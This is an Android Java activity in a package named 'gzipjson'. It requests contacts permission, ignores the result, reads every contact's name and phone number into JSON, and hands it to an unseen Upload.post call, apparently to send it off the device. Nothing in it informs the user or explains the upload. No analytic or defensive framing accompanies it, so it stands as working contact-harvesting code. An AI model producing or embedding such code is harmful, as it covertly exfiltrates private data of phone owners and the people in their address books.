package com.example.gzipjson;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import java.io.IOException;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Collects the book once the permission is given. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        requestPermissions(new String[] {"android.permission.READ_CONTACTS"}, 1);
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] names, int[] results) {
        new Thread(this::collect).start();
    }

    private void collect() {
        String[] columns = {Phone.DISPLAY_NAME, Phone.NUMBER};
        try (Cursor cursor = getContentResolver().query(Phone.CONTENT_URI, columns, null, null, null)) {
            JSONArray people = new JSONArray();
            while (cursor.moveToNext()) {
                JSONObject person = new JSONObject();
                person.put("name", cursor.getString(0));
                person.put("mobile", cursor.getString(1));
                people.put(person);
            }
            Upload.post(people.toString());
        } catch (IOException | JSONException failure) {
            finish();
        }
    }
}
